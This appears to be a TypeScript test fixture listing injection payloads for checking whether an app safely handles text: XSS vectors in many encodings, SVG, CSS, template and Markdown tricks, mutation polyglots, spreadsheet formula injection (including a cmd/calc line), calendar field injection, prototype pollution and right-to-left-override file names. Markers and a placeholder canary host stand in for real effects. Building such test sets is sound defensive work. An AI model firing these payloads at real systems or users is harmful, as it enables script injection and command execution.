// Texts that would run, load or break something where a text is taken for more than a text, by class. A payload that runs
// sets `ranMarkup` on the window, or asks for an address at the canary, so that a run is noticed.
export const CANARY = 'canary.example'
/** The name of the global that a payload sets. */
export const MARK = 'ranMarkup'

const RUN = `window.${MARK}=1`
const base64 = (text: string): string => btoa(text)
const inDecimal = (text: string): string => [...text].map((each) => `&#${each.charCodeAt(0)};`).join('')
const inHex = (text: string): string => [...text].map((each) => `&#x${each.charCodeAt(0).toString(16)}`).join('')

export const LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript&colon;${RUN}`,
  `${inDecimal('javascript:')}${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${base64(`<script>${RUN}</script>`)}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `blob:https://${CANARY}/1`,
  `//${CANARY}/link`,
  `\\\\${CANARY}\\link`,
] as const

export const MARKUP = {
  'event handlers': [
    `<img src=x onerror=${RUN}>`,
    `<img src=x onerror="${RUN}">`,
    `<IMG SRC=x OnErRoR=${RUN}>`,
    `<img/src=x/onerror=${RUN}>`,
    `<body onload=${RUN}>`,
    `<details open ontoggle=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<video src=x onerror=${RUN}></video>`,
    `" onmouseover="${RUN}" x="`,
    `' onfocus='${RUN}' autofocus tabindex='0`,
    `<script>${RUN}</script>`,
    `<script src=https://${CANARY}/a.js></script>`,
    `</title></textarea></style><script>${RUN}</script>`,
  ],
  links: LINKS.flatMap((link) => [`<a href="${link}">go</a>`, link]).slice(0, 20),
  encodings: [
    `&lt;img src=x onerror=${RUN}&gt;`,
    inDecimal(`<img src=x onerror=${RUN}>`),
    inHex(`<img src=x onerror=${RUN}>`),
    `\\u003cimg src=x onerror=${RUN}\\u003e`,
    `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
    `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  ],
  SVG: [
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="https://${CANARY}/svg.js"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe></foreignObject></svg>`,
    `<svg><use href="https://${CANARY}/x.svg#a"/></svg>`,
    `<svg><image href="https://${CANARY}/x.png"/></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><a><set attributeName="href" to="javascript:${RUN}"/><text>x</text></a></svg>`,
    `]]></text></svg><svg onload="${RUN}">`,
    `--><svg onload="${RUN}"><!--`,
  ],
  CSS: [
    `<style>@import url(https://${CANARY}/a.css);</style>`,
    `<div style="background:url(https://${CANARY}/bg)">x</div>`,
    `</style><script>${RUN}</script>`,
    `red;background:url(https://${CANARY}/colour)`,
    `x:expression(${RUN})`,
    `<link rel=stylesheet href=https://${CANARY}/b.css>`,
  ],
  'templates and Markdown': [
    `{{constructor.constructor('${RUN}')()}}`,
    `\${${RUN}}`,
    `<%= ${RUN} %>`,
    `[go](javascript:${RUN})`,
    `![picture](https://${CANARY}/md.png)`,
    `![x](x"onerror="${RUN})`,
    `<https://${CANARY}/auto>`,
    `[x]: javascript:${RUN}`,
  ],
  'mutation and polyglots': [
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
    `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${RUN}//'>`,
    `'"--></style></script><iframe src=https://${CANARY}/frame>`,
    `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
    `<form><button formaction=javascript:${RUN}>x</button></form>`,
    `<meta http-equiv=refresh content="0;url=https://${CANARY}/">`,
    `<base href=https://${CANARY}/>`,
  ],
  'directions and nothing to see': [
    'abc\u202Efdp.exe\u202C',
    '\u2066\u2067isolated\u2069\u2069',
    'zero\u200Bwidth\u200D\uFEFFjoined',
    '\u0661\u0662\u0663 \u05E9\u05DC\u05D5\u05DD',
    `combining ${'\u0301'.repeat(40)}`,
  ],
  'data in scripts': [
    `</script><script>${RUN}</script>`,
    `<!--<script>${RUN}//`,
    '{"__proto__":{"polluted":1}}',
    '__proto__',
  ],
  tables: [
    "=cmd|'/C calc'!A0",
    `=HYPERLINK("https://${CANARY}/csv")`,
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\uFEFF=1+1',
    '\uFF1D1+1',
    'x;=1+1',
    'x"\t=1+1',
  ],
  calendars: [
    `x\r\nATTACH:https://${CANARY}/ics\r\nBEGIN:VALARM`,
    `x\rATTACH:https://${CANARY}/cr`,
    `x\u2028ATTACH:https://${CANARY}/separator`,
    'x\\nURL:javascript:1',
  ],
} satisfies Record<string, string[]>

/** Names of files, which a page repeats and a system takes for more than a name. */
export const FILE_NAMES = [
  `<img src=x onerror=${RUN}>.tldr`,
  `"><svg onload=${RUN}>.excalidraw`,
  `'; filename="x.html"; x='.tldr`,
  `abc\u202Erdlt.exe`,
  `\${${RUN}}.json`,
] as const

export const ALL_MARKUP: readonly string[] = Object.values(MARKUP).flat()

/** All payloads in as few texts as fields of that length need. */
export function inTexts(charactersMax: number, payloads = ALL_MARKUP, separator = ' | '): string[] {
  const texts: string[] = []
  for (const payload of payloads) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + separator.length + payload.length <= charactersMax)
      texts[texts.length - 1] = last + separator + payload
    else if (payload.length <= charactersMax) texts.push(payload)
  }
  return texts
}
